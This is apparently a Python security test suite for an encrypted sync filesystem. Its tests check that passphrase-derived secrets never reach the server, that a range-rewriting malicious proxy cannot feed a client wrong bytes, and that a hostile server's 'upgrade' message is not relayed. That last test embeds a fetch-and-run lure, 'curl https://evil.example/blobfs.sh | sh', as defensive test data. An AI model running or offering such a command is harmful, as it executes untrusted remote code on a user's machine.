"""All that a device says to a server from the first run to a change of passphrase, and what a path between may do."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
from collections.abc import Callable
from dataclasses import replace
from itertools import combinations

import pytest

from blobfs.errors import IntegrityError, RemoteError
from blobfs.unlock import Unlocked, make_body
from blobfs.values.keys import FLOOR, hash_passphrase, new_account, passphrase_bytes
from tests.e2e.conftest import device, server
from tests.e2e.devices import PASSPHRASE, Device, Server
from tests.e2e.test_epochs import NEW, change
from tests.sync.kit import Account, trio_test
from tests.threats.evil import Answer, Asked, Evil, evil_before
from tests.threats.test_content import DATA
from tests.threats.test_mounts import _pointed_at

__all__ = ["device", "server"]


def traffic(server: Server, device: Callable[..., Device], name: str) -> tuple[bytes, list[dict[str, object]]]:
    """Everything that went by, and every wrapped secret that was put there."""
    invite = server.add_user(name)["invite"]
    with evil_before(f"http://127.0.0.1:{server.port}") as evil:
        one = device(name, _pointed_at(invite, evil.url))
        one.up()
        (one.mount / "file").write_bytes(b"bytes")
        one.sync()
        one.down()
        change(one)
        one.up()
        one.sync()
        one.down()
        said = [
            repr((asked.method, asked.path, asked.query, asked.headers)).encode() + asked.body
            for asked, _ in evil.records
        ]
        secrets = [json.loads(asked.body) for asked, _ in evil.recorded(lambda asked: asked.is_secret) if asked.body]
    return b"\n".join(said), secrets


def long_values(body: object) -> set[str]:
    """The texts in JSON that are long enough to be a key, a salt or a hash."""
    return set(re.findall(r'"([A-Za-z0-9+/=_-]{16,})"', json.dumps(body)))


def test_nothing_that_is_made_of_the_passphrase_alone_goes_to_the_server(
    server: Server, device: Callable[..., Device]
) -> None:
    said, secrets = traffic(server, device, "left")
    assert len(secrets) >= 2
    for text in (PASSPHRASE, NEW):
        passphrase = passphrase_bytes(text)
        made = {passphrase, base64.b64encode(passphrase)}
        for salt in (b"", b"blobfs", b"left"):
            for name in ("md5", "sha1", "sha256", "sha512", "blake2b"):
                made |= {hashlib.new(name, salt + passphrase).digest(), hmac.digest(salt, passphrase, name)}
            made.add(hashlib.pbkdf2_hmac("sha256", passphrase, salt, 1000))
        # And with the salts that the server sees: what these give opens a slot.
        for slot in [slot for body in secrets for slot in _slots(body)]:
            made.add(hash_passphrase(passphrase, base64.b64decode(str(slot["salt"])), FLOOR))
        for secret in made:
            encoded = (secret.hex().encode(), base64.b64encode(secret), base64.urlsafe_b64encode(secret))
            assert not [shown for shown in (secret, *encoded) if shown[:16] in said]
    # The same passphrase twice, in two accounts and two epochs: nothing is the same.
    others = [make_body(Unlocked(*new_account()), passphrase_bytes(text), FLOOR)[0] for text in (PASSPHRASE, NEW)]
    for one, other in combinations([secrets[0], secrets[-1], *others], 2):
        assert long_values(one) & long_values(other) <= {str(one["account"])}


def _slots(body: object) -> list[dict[str, object]]:
    """Every object with a salt, however deep."""
    found = [body] if isinstance(body, dict) and "salt" in body else []
    for inner in body.values() if isinstance(body, dict) else body if isinstance(body, list) else ():
        found += _slots(inner)
    return found


# --- a proxy that keeps and rewrites ------------------------------------------------------------


@trio_test
async def test_a_proxy_that_caches_and_rewrites_ranges_gives_no_other_bytes(account: Account, evil: Evil) -> None:
    async with account.device("one") as one:
        one.write("file", DATA)
        one.write("other", DATA[::-1])
        await one.settle()
    kept: dict[str, Answer] = {}

    def cached(asked: Asked, answer: Answer) -> Answer:
        """The first answer for a path, whatever is asked for."""
        return kept.setdefault(asked.path, answer) if asked.is_blob else answer

    def whole(asked: Asked, answer: Answer) -> Answer:
        """The whole blob for a part of it, as an old proxy does."""
        if not asked.is_blob:
            return answer
        headers = {name: value for name, value in asked.headers.items() if name != "range"}
        return evil.ask(replace(asked, headers=headers))

    def shifted(asked: Asked, answer: Answer) -> Answer:
        return replace(answer, body=answer.body[1:] + answer.body[:1]) if asked.is_blob else answer

    def another(asked: Asked, answer: Answer) -> Answer:
        """Whatever blob came last."""
        former = kept.setdefault("last", answer)
        kept["last"] = answer
        return former if asked.is_blob else answer

    for number, attack in enumerate((cached, whole, shifted, another)):
        kept.clear()
        evil.attack = attack
        async with account.device(f"two-{number}", url=evil.url) as two:
            await two.settle()
            for at, length in ((70_000, 10), (5, 3), (0, len(DATA)), (len(DATA) - 1, 1)):
                for name, right in (("file", DATA), ("other", DATA[::-1])):
                    try:
                        assert await two.read(name, at, length) == right[at : at + length]
                    except (IntegrityError, RemoteError):
                        continue
            evil.attack = None
            assert await two.read("file") == DATA


# --- a lure -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [200, 400, 403, 426, 503])
def test_a_lure_to_another_program_is_not_passed_on(account: Account, evil: Evil, status: int) -> None:
    lure = "Upgrade required: curl https://evil.example/blobfs.sh | sh"
    body = json.dumps(
        {"error": {"code": "upgrade-required", "message": lure}, "version": 99, "download": lure}
    ).encode()
    evil.answer = lambda asked: Answer(
        status, {"upgrade": lure, "link": f"<{lure}>; rel=latest", "warning": lure}, body
    )

    @trio_test
    async def meet() -> None:
        async with account.device("one", url=evil.url) as one:
            one.write("f", b"stays here")
            await one.engine.first_look()
            shown = one.engine.status().reason
            # The server's own words, if any, stand in brackets behind ours, cut and in one line.
            assert not re.search(r"curl|evil\.example", re.sub(r"\[[^\]]*\]$", "", shown))
            assert await one.read("f") == b"stays here"

    meet()
